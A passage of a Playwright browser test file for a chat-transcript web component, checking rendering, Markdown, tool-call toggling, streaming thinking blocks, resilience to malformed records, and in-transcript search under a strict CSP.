@@ -1,0 +1,1376 @@
+// Browser tests of <chat-transcript> (chat-display/element, bundled in pkg/element/) in Debian's
+// headless Chromium driven by playwright-core: the test page (tests/element/page.html) holds the
+// element alone, with the module and the element entry as the package ships them, under the same
+// strict Content-Security-Policy as the viewer. Every expectation is computed from the records,
+// the module (in Node or in the page) or the DOM, never written down as a result.
+//
+// Run `node scripts/build-element.mjs` after changing js/element/.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import AxeBuilder from "@axe-core/playwright";
+import { startServer } from "../../scripts/serve.mjs";
+import { launchBrowser } from "../support/browser.mjs";
+import * as cd from "../../js/node.mjs";
+import { conversation } from "../../bench/generate.mjs";
+import { sample, sampleConversation } from "../../www/sample.js";
+
+const repo = fileURLToPath(new URL("../..", import.meta.url));
+const streams = join(repo, "tests/fixtures/streams");
+const vectors = JSON.parse(readFileSync(join(repo, "tests/page/xss-vectors.json"), "utf8"));
+/** The most elements the element may hold in its shadow root, for any length. */
+const MAX_ELEMENTS = 3000;
+let server, url, browser, served;
+/** The 10,000-message conversation of bench/generate.mjs, its records and their search texts. */
+const big = {};
+
+before(async () => {
+  served = mkdtempSync(join(tmpdir(), "chat-display-element-"));
+  big.messages = conversation(10000);
+  big.text = JSON.stringify(big.messages);
+  writeFileSync(join(served, "big.json"), big.text);
+  big.records = cd.toDisplayMessages(big.messages);
+  writeFileSync(join(served, "big-records.json"), JSON.stringify(big.records));
+  big.texts = big.records.map((r) => cd.toText(r).toLowerCase());
+  ({ server, url } = await startServer({
+    port: 0,
+    mounts: [
+      ["/pkg/", join(repo, "pkg/web")],
+      ["/element/", join(repo, "pkg/element")],
+      ["/www/", join(repo, "www")],
+      ["/streams/", streams],
+      ["/fixtures/", served],
+      ["/", join(repo, "tests/element")],
+    ],
+  }));
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  server?.close();
+  if (served) rmSync(served, { recursive: true, force: true });
+});
+
+/** A 1x1 PNG, for the routes that stand in for other hosts on this closed network. */
+const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
+
+/**
+ * Opens the test page and watches for what a bug or an attack would cause: console errors, page
+ * errors, dialogs, CSP violations, payloads run (window.__xss) and requests to other hosts.
+ * Requests to other hosts are answered here (a PNG) so that nothing leaves the machine.
+ */
+async function open({ width = 1000, height = 800 } = {}) {
+  const page = await browser.context.newPage();
+  await page.setViewportSize({ width, height });
+  const watch = { console: [], dialogs: [], requests: [] };
+  await page.addInitScript(() => {
+    window.__xssFired = 0;
+    window.__xss = () => { window.__xssFired++; };
+    window.__violations = [];
+    document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective}: ${e.blockedURI}`));
+    // Helpers for the tests' page.evaluate calls.
+    window.__frames = (n = 2) => new Promise((resolve) => {
+      const step = () => (--n <= 0 ? resolve() : requestAnimationFrame(step));
+      requestAnimationFrame(step);
+    });
+    window.__root = () => document.getElementById("t").shadowRoot;
+    window.__scroller = (e = document.getElementById("t")) => e.shadowRoot.querySelector(".scroller");
+    /** True when `node` is laid out and at least partly inside the element's scroll viewport. */
+    window.__inView = (node, e = document.getElementById("t")) => {
+      if (!node) return false;
+      const s = window.__scroller(e).getBoundingClientRect();
+      const r = node.getBoundingClientRect();
+      return r.height > 0 && r.bottom > s.top + 1 && r.top < s.bottom - 1;
+    };
+    window.__count = (e = document.getElementById("t")) => e.shadowRoot.querySelectorAll("*").length;
+    window.__record = (i) => window.__root().querySelector(`.record[data-record="${i}"]`);
+    window.__fromEnd = (e = document.getElementById("t")) => {
+      const s = window.__scroller(e);
+      return s.scrollHeight - s.scrollTop - s.clientHeight;
+    };
+  });
+  page.on("console", (m) => { if (m.type() === "error") watch.console.push(m.text()); });
+  page.on("pageerror", (e) => watch.console.push(String(e)));
+  page.on("dialog", async (d) => { watch.dialogs.push(d.message()); await d.dismiss(); });
+  page.on("request", (r) => {
+    const u = new URL(r.url());
+    if (u.hostname !== "127.0.0.1" && u.protocol !== "data:" && u.protocol !== "blob:") watch.requests.push(r.url());
+  });
+  await page.route((u) => u.hostname !== "127.0.0.1", (route) => route.fulfill({ status: 200, contentType: "image/png", body: PNG }));
+  await page.goto(url + "page.html");
+  await page.waitForSelector("body[data-ready]", { state: "attached" });
+  return { page, watch };
+}
+
+async function clean(page, watch) {
+  assert.deepEqual(watch.console, [], "no console errors");
+  assert.deepEqual(watch.dialogs, [], "no dialogs");
+  assert.deepEqual(await page.evaluate(() => window.__violations), [], "no CSP violations");
+}
+
+/** Scrolls record `i` into view and waits until its row is in the DOM and in view. */
+async function reveal(page, i) {
+  await page.evaluate((i) => t.scrollToRecord(i), i);
+  await page.waitForFunction((i) => window.__inView(window.__record(i)), i, { timeout: 5000, polling: "raf" });
+}
+
+/**
+ * Every row of the element, visited by scrolling through: index -> what the row shows. `expand`
+ * opens every tool call on the way.
+ */
+async function visitAll(page, { expand = false } = {}) {
+  return page.evaluate(async (expand) => {
+    const rows = {};
+    const n = t.records.length;
+    let i = 0;
+    for (let guard = 0; i < n && guard < 4 * n; guard++) {
+      t.scrollToRecord(i);
+      await window.__frames(3);
+      if (expand) {
+        let clicked = false;
+        for (const head of window.__root().querySelectorAll('.tool-head[aria-expanded="false"]')) {
+          head.click();
+          clicked = true;
+        }
+        if (clicked) await window.__frames(3);
+      }
+      for (const row of window.__root().querySelectorAll(".row")) {
+        const index = Number(row.dataset.index);
+        const record = row.querySelector(":scope > .record");
+        rows[index] = {
+          hidden: row.hidden,
+          turn: row.dataset.turn,
+          turnStart: row.classList.contains("turn-start"),
+          contentType: record?.dataset.contentType ?? null,
+          status: record?.querySelector(".tool-head .status")?.dataset.status ?? null,
+          text: row.textContent,
+          html: row.innerHTML,
+        };
+      }
+      while (i < n && rows[i]) i++;
+    }
+    return rows;
+  }, expand);
+}
+
+/** A display-message record, for records the tests build. */
+const rec = (message_type, content_type, content, extra = {}) => ({
+  conversation_id: "test", message_type, content_type, content, sequence: 0, status: "completed",
+  tool_call_id: null, metadata: {}, ...extra,
+});
+
+/** A value as text: a string as it is, anything else as indented JSON. */
+const asText = (value) => (typeof value === "string" ? value : JSON.stringify(value, null, 2));
+
+const STATUSES = ["pending", "executing", "completed", "failed", "interrupted", "cancelled"];
+
+test("every content type and every tool status renders through the element, grouped into turns", async () => {
+  const { page, watch } = await open();
+  const extra = [
+    rec("user", "text", { text: "Now every status, please." }),
+    ...STATUSES.map((status, k) => rec("assistant", "tool_call",
+      { call_id: `s${k}`, name: `tool_${status}`, arguments: { status } }, { sequence: k, status, tool_call_id: `s${k}` })),
+    // Statuses that come from a paired result rather than the call's own record.
+    rec("assistant", "tool_call", { call_id: "r1", name: "by_error", arguments: {} }, { sequence: 6, status: "completed", tool_call_id: "r1" }),
+    rec("assistant", "tool_call", { call_id: "r2", name: "by_interrupt", arguments: {} }, { sequence: 7, status: "completed", tool_call_id: "r2" }),
+    rec("tool", "tool_result", { tool_call_id: "r1", name: "by_error", content: "it broke", is_error: true }, { tool_call_id: "r1" }),
+    rec("tool", "tool_result", { tool_call_id: "r2", name: "by_interrupt", content: "stopped", is_interrupt: true }, { sequence: 1, tool_call_id: "r2" }),
+    rec("assistant", "widget", { anything: ["at", "all"], n: 1 }),
+  ];
+  const records = await page.evaluate(async (extra) => {
+    const { sample } = await import("/www/sample.js");
+    await t.load(sample);
+    t.records = t.records.concat(extra);
+    return t.records;
+  }, extra);
+  const rows = await visitAll(page, { expand: true });
+  assert.equal(Object.keys(rows).length, records.length, "every record has a row");
+
+  // Which call each result pairs with, by tool_call_id, as a reader would pair them.
+  const callOf = new Map();
+  records.forEach((r, i) => {
+    if (r.content_type !== "tool_result") return;
+    for (let j = i - 1; j >= 0; j--) {
+      if (records[j].content_type === "tool_call" && records[j].tool_call_id === r.tool_call_id) {
+        callOf.set(i, j);
+        break;
+      }
+    }
+  });
+  assert.ok(callOf.size >= 4, "the sample and the extra records pair results with calls");
+
+  const types = new Set();
+  records.forEach((r, i) => {
+    const row = rows[i];
+    if (callOf.has(i)) {
+      assert.equal(row.hidden, true, `the paired result ${i} has no row of its own`);
+      const call = rows[callOf.get(i)];
+      const result = asText(r.content.content);
+      assert.ok(call.text.includes(result), `the result ${i} shows inside its call's row: ${result}`);
+      assert.match(call.html, new RegExp(`data-record="${i}"`));
+      assert.equal(row.turn, "assistant", "a tool message's records are part of the assistant's turn");
+      return;
+    }
+    assert.equal(row.hidden, false, `record ${i} shows`);
+    assert.equal(row.contentType, r.content_type, `record ${i}'s row renders its own type`);
+    types.add(r.content_type);
+  });
+  for (const type of ["text", "thinking", "tool_call", "image", "file_reference", "structured_data", "notification", "error", "todo_snapshot", "widget"]) {
+    assert.ok(types.has(type), `renders ${type}`);
+  }
+
+  // Per type: what each row shows comes from its record.
+  const html = await page.evaluate(async (n) => {
+    const out = [];
+    for (let i = 0; i < n; i++) {
+      t.scrollToRecord(i);
+      await window.__frames(2);
+      const block = window.__record(i);
+      out.push(block ? {
+        thinking: block.querySelector("details.thinking")?.textContent ?? null,
+        img: block.querySelector("img")?.getAttribute("src") ?? null,
+        blocked: block.querySelector(".image-blocked")?.textContent ?? null,
+        fileName: block.querySelector(".file-name")?.textContent ?? null,
+        filePath: block.querySelector(".file-path")?.textContent ?? null,
+        format: block.querySelector(".structured")?.dataset.format ?? null,
+        jsonTree: !!block.querySelector(".structured .json-node"),
+        th: [...block.querySelectorAll(".structured th")].map((e) => e.textContent),
+        tr: block.querySelectorAll(".structured tbody tr").length,
+        pre: block.querySelector(".structured pre, pre.unknown-type")?.textContent ?? null,
+        banner: block.querySelector(".banner")?.getAttribute("role") ?? null,
+        bannerText: block.querySelector(".banner-text")?.textContent ?? null,
+        todos: [...block.querySelectorAll("ul.todos li")].map((li) => li.dataset.status),
+        bubble: block.querySelector(".bubble")?.textContent ?? null,
+        prose: block.querySelector(".prose")?.textContent ?? null,
+        toolName: block.querySelector(".tool-head .name")?.textContent ?? null,
+        status: block.querySelector(".tool-head .status")?.dataset.status ?? null,
+      } : null);
+    }
+    return out;
+  }, records.length);
+  let structured = new Set();
+  records.forEach((r, i) => {
+    if (callOf.has(i)) return;
+    const shown = html[i];
+    const c = r.content;
+    switch (r.content_type) {
+      case "text":
+        if (r.message_type === "user") assert.equal(shown.bubble, c.text);
+        else assert.ok(shown.prose.replace(/\s+/g, " ").includes(c.text.split("\n")[0].replace(/[#*]/g, "").trim()), `assistant text ${i}`);
+        break;
+      case "thinking":
+        assert.ok(shown.thinking.includes(c.text));
+        break;
+      case "image":
+        if (c.data) assert.equal(shown.img, `data:${c.mime_type};base64,${c.data}`);
+        else {
+          assert.equal(shown.img, null, "a javascript: image is not loaded");
+          assert.match(shown.blocked, /not shown/);
+        }
+        break;
+      case "file_reference":
+        assert.equal(shown.fileName, c.name);
+        assert.equal(shown.filePath, c.path);
+        break;
+      case "structured_data": {
+        const format = c.format.toLowerCase();
+        structured.add(format);
+        assert.equal(shown.format, format);
+        if (format === "json") assert.equal(shown.jsonTree, true, "json is a tree");
+        else if (format === "csv") {
+          const lines = c.data.split("\n");
+          assert.deepEqual(shown.th, lines[0].split(","), "csv headers");
+          assert.equal(shown.tr, lines.length - 1, "csv rows");
+        } else assert.equal(shown.pre, c.data, "another format is shown as text");
+        break;
+      }
+      case "notification":
+      case "error":
+        assert.equal(shown.banner, r.content_type === "error" ? "alert" : "status");
+        assert.equal(shown.bannerText, c.text);
+        break;
+      case "todo_snapshot":
+        assert.deepEqual(shown.todos, c.todos.map((todo) => todo.status));
+        break;
+      case "tool_call": {
+        assert.equal(shown.toolName, c.name);
+        const results = [...callOf].filter(([, call]) => call === i).map(([res]) => records[res].content);
+        const expected = results.some((x) => x.is_error === true) ? "failed"
+          : results.some((x) => x.is_interrupt === true) ? "interrupted" : r.status;
+        assert.equal(shown.status, expected, `${c.name}'s status`);
+        break;
+      }
+      default:
+        assert.equal(shown.pre, JSON.stringify(c, null, 2), "an unknown type shows its content");
+    }
+  });
+  assert.deepEqual([...structured].sort(), ["csv", "json", "yaml"]);
+  const shownStatuses = new Set(html.filter(Boolean).map((h) => h.status).filter(Boolean));
+  for (const status of STATUSES) assert.ok(shownStatuses.has(status), `status ${status} shows`);
+
+  // Turns: a user bubble starts a turn; the assistant's records after it (thinking, text, calls,
+  // the tool message's results) are one turn; the next user message starts the next.
+  const turnOf = (r) => (r.message_type === "user" || r.message_type === "system" ? r.message_type
+    : r.message_type === "assistant" || r.message_type === "tool" ? "assistant" : r.content_type === "error" ? "error" : "assistant");
+  records.forEach((r, i) => {
+    assert.equal(rows[i].turn, turnOf(r), `record ${i}'s turn`);
+    const expectedStart = i === 0 || turnOf(records[i - 1]) !== turnOf(r) || (turnOf(r) === "user" && r.sequence === 0);
+    assert.equal(rows[i].turnStart, expectedStart, `record ${i} (${r.message_type} ${r.content_type}) starts a turn: ${expectedStart}`);
+  });
+  const firstUser = records.findIndex((r) => r.message_type === "user");
+  assert.equal(rows[firstUser].turn, "user");
+  assert.match(rows[firstUser].html, /class="bubble"/);
+  const lastOfFirstReply = records.findIndex((r, i) => i > firstUser && r.message_type === "tool") ;
+  for (let i = firstUser + 1; i <= lastOfFirstReply; i++) {
+    assert.equal(rows[i].turn, "assistant");
+    assert.equal(rows[i].turnStart, i === firstUser + 1, `record ${i} is inside the first reply's turn`);
+  }
+  await clean(page, watch);
+  await page.close();
+});
+
+test("user text is verbatim, assistant text is Markdown: dir=auto, code blocks with a header, task lists", async () => {
+  const { page, watch } = await open();
+  await browser.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: url });
+  const userText = "first line\nsecond **x** line\n\n  indented <b>tag</b>";
+  const code = "def umbrella(rain_mm):\n    return rain_mm > 0.5";
+  const assistantText = `Some **bold** and \`inline\`.\n\n\`\`\`python\n${code}\n\`\`\`\n\n- [ ] open task\n- [x] done task\n\nשלום עולם, מה שלומך?`;
+  const out = await page.evaluate(async ([records]) => {
+    t.records = records;
+    await window.__frames(3);
+    const root = window.__root();
+    const bubble = root.querySelector('.row[data-index="0"] .bubble');
+    const prose = root.querySelector('.row[data-index="1"] .prose');
+    const rtlBubble = root.querySelector('.row[data-index="2"] .bubble');
+    const copy = prose.querySelector(".code-block .code-head button.copy");
+    const pre = prose.querySelector(".code-block pre");
+    const a = copy.getBoundingClientRect(), b = pre.getBoundingClientRect();
+    const p = prose.querySelector("p");
+    const style = getComputedStyle(p);
+    return {
+      bubbleText: bubble.textContent,
+      bubbleInner: bubble.innerText,
+      bubbleDir: bubble.getAttribute("dir"),
+      bubbleMarkup: bubble.querySelectorAll("*").length,
+      strong: [...prose.querySelectorAll("strong")].map((e) => e.textContent),
+      inline: [...prose.querySelectorAll("p code")].map((e) => e.textContent),
+      paragraphsDir: [...prose.querySelectorAll("p, li")].map((e) => e.getAttribute("dir")),
+      rtlParagraph: [...prose.querySelectorAll("p")].filter((e) => e.matches(":dir(rtl)")).map((e) => e.textContent),
+      rtlBubble: rtlBubble.matches(":dir(rtl)"),
+      ltrBubble: bubble.matches(":dir(ltr)"),
+      language: prose.querySelector(".code-head").firstElementChild.textContent,
+      copyInPre: copy.closest("pre") !== null,
+      overlap: !(a.bottom <= b.top || a.top >= b.bottom || a.right <= b.left || a.left >= b.right),
+      code: pre.textContent,
+      boxes: [...prose.querySelectorAll('input[type="checkbox"]')].map((e) => ({ disabled: e.disabled, checked: e.checked, shown: e.getBoundingClientRect().width > 0 })),
+      lineHeight: parseFloat(style.lineHeight) / parseFloat(style.fontSize),
+    };
+  }, [[
+    rec("user", "text", { text: userText }),
+    rec("assistant", "text", { text: assistantText }),
+    rec("user", "text", { text: "مرحبا بالعالم" }, { sequence: 0 }),
+  ]]);
+  assert.equal(out.bubbleText, userText, "user text is verbatim");
+  assert.equal(out.bubbleMarkup, 0, "no markup in a user bubble: **x** and <b> stay text");
+  assert.ok(out.bubbleInner.includes("first line\nsecond **x** line\n\n  indented"), "line breaks and spaces are laid out");
+  assert.equal(out.bubbleDir, "auto");
+  assert.equal(out.rtlBubble, true, "Arabic lays out right to left");
+  assert.equal(out.ltrBubble, true);
+  assert.deepEqual(out.strong, ["bold"], "assistant text is Markdown");
+  assert.deepEqual(out.inline, ["inline"]);
+  assert.ok(out.paragraphsDir.length >= 3 && out.paragraphsDir.every((d) => d === "auto"), "dir=auto on every block");
+  assert.equal(out.rtlParagraph.length, 1, "the Hebrew paragraph lays out right to left");
+  assert.equal(out.language, "python", "the code header names the language");
+  assert.equal(out.copyInPre, false, "the copy button is outside the <pre>");
+  assert.equal(out.overlap, false, "the copy button never covers code");
+  assert.equal(out.code.replace(/\n$/, ""), code, "the code as written");
+  assert.deepEqual(out.boxes, [{ disabled: true, checked: false, shown: true }, { disabled: true, checked: true, shown: true }]);
+  assert.ok(Math.abs(out.lineHeight - 1.6) < 0.05, `line height about 1.6: ${out.lineHeight}`);
+  // The copy button copies the code.
+  await page.click("chat-transcript .code-block button.copy");
+  await page.waitForFunction(() => window.__root().querySelector("button.copy").textContent === "Copied");
+  assert.equal((await page.evaluate(() => navigator.clipboard.readText())).replace(/\n$/, ""), code, "the copy button copies the code");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("tool calls collapse and expand by mouse and by keyboard, with a short argument summary", async () => {
+  const { page, watch } = await open();
+  const long = "a very long query ".repeat(20);
+  const args = { city: "Paris", units: "celsius", query: long, nested: { deep: [1, 2] } };
+  await page.evaluate((records) => { t.records = records; }, [
+    rec("user", "text", { text: "Weather?" }),
+    rec("assistant", "tool_call", { call_id: "c1", name: "get_weather", arguments: args }, { tool_call_id: "c1" }),
+    rec("tool", "tool_result", { tool_call_id: "c1", name: "get_weather", content: "18°C, light rain" }, { tool_call_id: "c1" }),
+  ]);
+  const head = page.locator('chat-transcript .row[data-index="1"] .tool-head');
+  const state = () => page.evaluate(() => {
+    const root = window.__root();
+    const h = root.querySelector('.row[data-index="1"] .tool-head');
+    const body = root.querySelector('.row[data-index="1"] .tool-body');
+    return {
+      expanded: h.getAttribute("aria-expanded"),
+      controls: h.getAttribute("aria-controls"),
+      body: body ? { id: body.id, text: body.textContent, visible: body.getBoundingClientRect().height > 0 } : null,
+      focused: root.activeElement === h,
+      summary: h.querySelector(".summary").textContent,
+    };
+  });
+  let s = await state();
+  assert.equal(s.expanded, "false", "collapsed at first");
+  assert.equal(s.body, null);
+  assert.ok(s.summary.startsWith('city: "Paris", units: "celsius"'), s.summary);
+  assert.ok(s.summary.length <= 80 && s.summary.endsWith("…"), `a short summary, cut: ${s.summary}`);
+
+  // Mouse.
+  await head.click();
+  await page.waitForFunction(() => window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") === "true");
+  s = await state();
+  assert.equal(s.body.id, s.controls, "aria-controls names the body");
+  assert.ok(s.body.visible);
+  for (const part of ["Paris", "celsius", "deep", "18°C, light rain"]) assert.ok(s.body.text.includes(part), `expanded shows ${part}`);
+  await head.click();
+  await page.waitForFunction(() => window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") === "false");
+  assert.equal((await state()).body, null, "collapsed again");
+
+  // Keyboard: Enter and Space, focus staying on the (rebuilt) head button.
+  await head.focus();
+  await page.keyboard.press("Enter");
+  await page.waitForFunction(() => window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") === "true");
+  await page.evaluate(() => window.__frames(2));
+  s = await state();
+  assert.ok(s.body?.visible, "Enter expands");
+  assert.equal(s.focused, true, "focus stays on the head after Enter");
+  await page.keyboard.press("Space");
+  await page.waitForFunction(() => window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") === "false");
+  await page.evaluate(() => window.__frames(2));
+  s = await state();
+  assert.equal(s.body, null, "Space collapses");
+  assert.equal(s.focused, true, "focus stays on the head after Space");
+  await page.keyboard.press("Space");
+  await page.waitForFunction(() => window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") === "true");
+  assert.equal((await state()).focused, true);
+
+  // Toggled by a script while focus is elsewhere, the head does not take focus.
+  const moved = await page.evaluate(async () => {
+    const input = document.createElement("input");
+    input.setAttribute("aria-label", "elsewhere");
+    document.body.prepend(input);
+    input.focus();
+    window.__root().querySelector('.row[data-index="1"] .tool-head').click();
+    await window.__frames(3);
+    const result = { active: document.activeElement === input, expanded: window.__root().querySelector('.row[data-index="1"] .tool-head').getAttribute("aria-expanded") };
+    input.remove();
+    return result;
+  });
+  assert.deepEqual(moved, { active: true, expanded: "false" });
+  await clean(page, watch);
+  await page.close();
+});
+
+test("thinking is open while it streams and folds when its final record arrives", async () => {
+  const { page, watch } = await open();
+  const thinking = rec("assistant", "thinking", { text: "Let me think" }, { status: "pending", metadata: { streaming: true } });
+  const final = { ...thinking, status: "completed", content: { text: "Let me think about it." }, metadata: {} };
+  const states = await page.evaluate(async ([user, thinking, final]) => {
+    const open = () => window.__root().querySelector('.row[data-index="1"] details.thinking').open;
+    const out = [];
+    t.records = [user, thinking];
+    await window.__frames(2);
+    out.push(open());
+    t.applyPatches([{ op: "append", index: 1, field: "text", text: " about it." }]);
+    await window.__frames(2);
+    out.push(open(), window.__root().querySelector('.row[data-index="1"] details.thinking').textContent);
+    t.applyPatches([{ op: "replace", index: 1, record: final }]);
+    await window.__frames(2);
+    out.push(open());
+    // The reader's choice holds: opened when done, it stays open as the stream goes on.
+    window.__root().querySelector('.row[data-index="1"] details.thinking summary').click();
+    await window.__frames(2);
+    t.applyPatches([{ op: "add", record: { ...final, content_type: "text", content: { text: "Answer" } } }, { op: "replace", index: 1, record: { ...final } }]);
+    await window.__frames(2);
+    out.push(open());
+    // Closed by the reader while it streams, it stays closed as text arrives.
+    t.records = [user, thinking];
+    await window.__frames(2);
+    window.__root().querySelector('.row[data-index="1"] details.thinking summary').click();
+    await window.__frames(2);
+    t.applyPatches([{ op: "append", index: 1, field: "text", text: " more" }]);
+    await window.__frames(2);
+    out.push(open());
+    return out;
+  }, [rec("user", "text", { text: "Hi" }), thinking, final]);
+  assert.equal(states[4], true, "opened by the reader after it finished, it stays open");
+  assert.equal(states[5], false, "closed by the reader while streaming, it stays closed");
+  assert.deepEqual(states.slice(0, 2), [true, true], "open while streaming");
+  assert.ok(states[2].includes("Let me think about it."), "appended text shows");
+  assert.equal(states[3], false, "folded once final");
+
+  // The same with a recorded stream through a StreamAccumulator.
+  const seen = await page.evaluate(async () => {
+    t.records = [];
+    const acc = new api.StreamAccumulator("anthropic_messages");
+    const text = await (await fetch("/streams/anthropic_messages/thinking-then-text.sse")).text();
+    const out = { whileStreaming: [], final: null };
+    for (const event of text.split("\n\n")) {
+      t.applyPatches(acc.push(event + "\n\n"));
+      await window.__frames(1);
+      const records = t.records;
+      const i = records.findIndex((r) => r.content_type === "thinking");
+      if (i < 0) continue;
+      t.scrollToRecord(i);
+      await window.__frames(1);
+      const details = window.__root().querySelector(`.row[data-index="${i}"] details.thinking`);
+      if (records[i].metadata?.streaming === true) out.whileStreaming.push(details?.open);
+      else out.final = details?.open;
+    }
+    acc.free();
+    return out;
+  });
+  assert.ok(seen.whileStreaming.length > 0, "the thinking block streamed");
+  assert.ok(seen.whileStreaming.every((o) => o === true), "open on every step of the stream");
+  assert.equal(seen.final, false, "folded when done");
+  await clean(page, watch);
+  await page.close();
+});
+
+test("bad records and bad patches never make the element throw: every row still renders", async () => {
+  const { page, watch } = await open();
+  const out = await page.evaluate(async () => {
+    const deep = (n) => { let v = "bottom"; for (let i = 0; i < n; i++) v = { k: [v] }; return v; };
+    const cyclic = { a: 1 };
+    cyclic.self = cyclic;
+    const garbage = [
+      null, 42, "a string", [], {}, { content_type: "text" }, { content_type: "text", content: null },
+      { content_type: "text", message_type: "user", content: { text: { not: "a string" } } },
+      { content_type: "text", message_type: "assistant", content: { text: ">".repeat(20000) + " deep quote" } },
+      { content_type: "text", message_type: "assistant", content: { text: "*".repeat(5000) + "x" + "*".repeat(5000) } },
+      { content_type: "text", message_type: "assistant", content: { text: Array.from({ length: 400 }, (_, i) => " ".repeat(i * 2) + "- item").join("\n") } },
+      { content_type: "text", message_type: "assistant", content: { text: "[".repeat(20000) + "](x)" } },
+      { content_type: "thinking", metadata: null, content: { text: 5 } },
+      { content_type: "tool_call", content: null, status: 7 },
+      { content_type: "tool_call", tool_call_id: "z", content: { name: { n: 1 }, arguments: deep(5000) }, status: "no such status" },
+      { content_type: "tool_result", tool_call_id: "z", content: { content: { x: [1] }, is_error: "yes" } },
+      { content_type: "tool_result", tool_call_id: {}, content: "nope" },
+      { content_type: "image", content: "x" },
+      { content_type: "image", content: { url: 5, data: [], mime_type: {} } },
+      { content_type: "file_reference", content: { name: null, path: ["a"] } },
+      { content_type: "structured_data", content: { format: "csv", data: 5 } },
+      { content_type: "structured_data", content: { format: "json", data: "{not json" } },
+      { content_type: "structured_data", content: { format: "json", data: deep(5000) } },
+      { content_type: "structured_data", content: { format: 7, data: cyclic } },
+      { content_type: "notification", content: { text: null, path: 5 } },
+      { content_type: "error", content: [] },
+      { content_type: "todo_snapshot", content: { todos: [null, 5, { status: "weird", content: {} }], summary: "x" } },
+      { content_type: "todo_snapshot", content: { todos: "not a list", summary: null } },
+      { content_type: { toString: null }, content: cyclic },
+      { content_type: "__proto__", message_type: "constructor", content: {} },
+    ];
+    const problems = [];
+    const guard = (what, f) => { try { f(); } catch (e) { problems.push(`${what}: ${e}`); } };
+    guard("records", () => { t.records = garbage; });
+    await window.__frames(2);
+    const seen = new Set();
+    const texts = {};
+    for (let i = 0; i < garbage.length; i++) {
+      guard("scrollToRecord", () => t.scrollToRecord(i));
+      await window.__frames(2);
+      for (const head of window.__root().querySelectorAll('.tool-head[aria-expanded="false"]')) head.click();
+      await window.__frames(2);
+      for (const row of window.__root().querySelectorAll(".row")) {
+        seen.add(Number(row.dataset.index));
+        texts[row.dataset.index] = row.textContent;
+      }
+    }
+    guard("find", () => t.find("x"));
+    guard("findNext", () => t.findNext());
+    guard("patches", () => t.applyPatches([null, 5, {}, { op: "append", index: 999, field: "text", text: "x" }, { op: "append", index: -1, field: "text", text: "x" },
+      { op: "replace", index: -1, record: {} }, { op: "replace", index: 1.5, record: {} }, { op: "replace", index: "0", record: {} }, { op: "append", index: 2, field: "text", text: 5 },
+      { op: "add", record: null }, { op: "add" }, { op: "nope" }]));
+    guard("patches", () => t.applyPatches(null));
+    guard("patches", () => t.applyPatches("nope"));
+    await window.__frames(3);
+    guard("find", () => t.find("item"));
+    guard("scrollToRecord", () => { t.scrollToRecord(-5); t.scrollToRecord(1e9); t.scrollToRecord(NaN); t.scrollToRecord("3"); });
+    await window.__frames(3);
+    const records = t.records;
+    return { problems, texts, seen: seen.size, n: garbage.length, length: records.length, keys: Object.keys(records).length, rows: window.__root().querySelectorAll(".row").length };
+  });
+  assert.deepEqual(out.problems, [], "nothing throws");
+  assert.equal(out.seen, out.n, "every bad record has a row");
+  // Markdown too deep for marked (its recursion, or its time) shows as the text it is.
+  assert.ok(out.texts[8].includes(">".repeat(1000) + " deep quote"), "a quote nested 20,000 deep");
+  assert.ok(out.texts[9].includes("*".repeat(5000) + "x"), "emphasis nested 5,000 deep");
+  assert.ok(out.texts[10].includes(" ".repeat(798) + "- item"), "a list nested 400 deep");
+  assert.equal(out.keys, out.length, "bad patch indices add nothing but records");
+  assert.ok(out.rows > 0);
+  await clean(page, watch);
+  await page.close();
+});
+
+/** Steps through the hits, checking the current one at each step; returns the indices seen. */
+async function stepHits(page, method, steps) {
+  const seen = [];
+  for (let k = 0; k < steps; k++) {
+    const current = await page.evaluate(async (method) => {
+      t[method]();
+      let marked = [];
+      for (let tries = 0; tries < 30; tries++) {
+        await window.__frames(1);
+        marked = [...window.__root().querySelectorAll('[aria-current="true"]')];
+        if (marked.length === 1 && window.__inView(marked[0])) break;
+      }
+      return marked.map((e) => ({ record: Number(e.dataset.record), inView: window.__inView(e), marks: e.querySelectorAll("mark.hit").length }));
+    }, method);
+    assert.equal(current.length, 1, "one current hit");
+    assert.equal(current[0].inView, true, "the current hit is scrolled into view");
+    assert.ok(current[0].marks > 0, "the current hit's text is marked");
+    seen.push(current[0].record);
+  }
+  return seen;
+}
+
+test("find / findNext / findPrevious: counts over toText, all else still shown, wrapping; records as an array", async () => {
+  const { page, watch } = await open();
+  const before = await page.evaluate(async () => {
+    const { sampleConversation, sampleRecords } = await import("/www/sample.js");
+    t.records = api.toDisplayMessages(sampleConversation).concat(sampleRecords);
+    await window.__frames(3);
+    return [...window.__root().querySelectorAll(".row")].map((r) => r.dataset.index);
+  });
+  const expected = await page.evaluate(() => t.records.map((r, i) => [i, api.toText(r).toLowerCase()]).filter(([, x]) => x.includes("berlin")).map(([i]) => i));
+  assert.ok(expected.length >= 3);
+  assert.equal(await page.evaluate(() => t.find("BERLIN")), expected.length, "the count, case-insensitive");
+  assert.equal(await page.evaluate(() => t.find("berlin")), expected.length);
+  await page.evaluate(() => window.__frames(2));
+  const after = await page.evaluate(() => ({
+    rows: [...window.__root().querySelectorAll(".row")].map((r) => r.dataset.index),
+    marks: [...window.__root().querySelectorAll("mark.hit")].map((m) => m.textContent.toLowerCase()),
+  }));
+  assert.deepEqual(after.rows, before, "every other record still shows");
+  assert.ok(after.marks.length > 0 && after.marks.every((m) => m === "berlin"), "hits are marked");
+  const forward = await stepHits(page, "findNext", expected.length + 1);
+  assert.deepEqual(forward, [...expected, expected[0]], "findNext visits every hit in order, then wraps");
